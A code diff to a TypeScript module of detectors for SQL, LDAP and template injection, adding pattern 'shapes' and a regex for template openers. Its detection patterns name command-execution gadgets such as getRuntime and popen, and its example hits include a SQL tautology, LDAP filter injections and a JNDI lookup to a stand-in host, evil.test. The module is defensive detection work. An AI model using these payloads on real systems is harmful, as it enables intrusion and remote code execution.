@@ -1,5 +1,5 @@
 // Values that change the query they are put into: SQL, LDAP, and templates that evaluate what they are given.
-import { defineDetector, type Match } from '../../define.ts'
+import { defineDetector, type Match, type Shape } from '../../define.ts'
 import { all, surest } from './all.ts'
 
 type Row = [kind: string, pattern: RegExp, confidence: number, note: string]
@@ -78,6 +78,8 @@ const TEMPLATE: Row[] = [
   ],
 ]
 
+const shapesOf = (rows: readonly Row[]): Shape[] => rows.map(([, pattern]) => ({ pattern }))
+
 const say = (rows: readonly Row[]) => (window: string) =>
   surest(rows.flatMap(([kind, pattern, confidence, note]) => all(window, pattern, () => ({ kind, confidence, note }))))
 
@@ -114,6 +116,7 @@ const HOST_WORDS =
   /__class__|__mro__|__subclasses__|__globals__|__builtins__|__import__|\bconstructor\s{0,2}\(|\.constructor\b|getRuntime|ProcessBuilder|freemarker\.template|T\(java|\bself\._|cycler\.__|lipsum\.|request\.application|\bsystem\(|popen\(|passthru/g
 const OPENERS = ['{{', '{%', '${', '#{', '<%']
 const LONGEST_TEMPLATE = 200
+const OPENED = new RegExp(`(?:\\{\\{|\\{%|[$#]\\{|<%)[^\\n]{0,${LONGEST_TEMPLATE + 40}}`, 'g')
 
 function reaching(window: string): Match[] {
   const matches: Match[] = []
@@ -143,6 +146,7 @@ export const sqlInjection = defineDetector({
   literals: SQL_LITERALS,
   reach: { before: 120, after: 260 },
   detect: say(SQL),
+  shapes: shapesOf(SQL),
   examples: {
     hit: [
       "name = x' OR '1'='1",
@@ -170,6 +174,7 @@ export const ldapInjection = defineDetector({
   literals: ['*)', ')(', ') ('],
   reach: { before: 8, after: 80 },
   detect: say(LDAP),
+  shapes: shapesOf(LDAP),
   examples: {
     hit: ['user=*)(uid=*))(|(uid=*', 'admin)(&(objectClass=*'],
     miss: ['f(a)(b)', '(see above) (and below)', 'int *) (void'],
@@ -187,6 +192,7 @@ export const templateInjection = defineDetector({
   literals: ['${', '{{', '{%', '#{', '<%', '*{', '@(', '__class__'],
   reach: { before: 8, after: 240 },
   detect: (window) => surest([...evaluated(window), ...reaching(window)]),
+  shapes: [...shapesOf(TEMPLATE), { pattern: OPENED, counts: ({ 0: line }) => line.search(HOST_WORDS) >= 0 }],
   examples: {
     hit: [
       '${jndi:ldap://evil.test/a}',
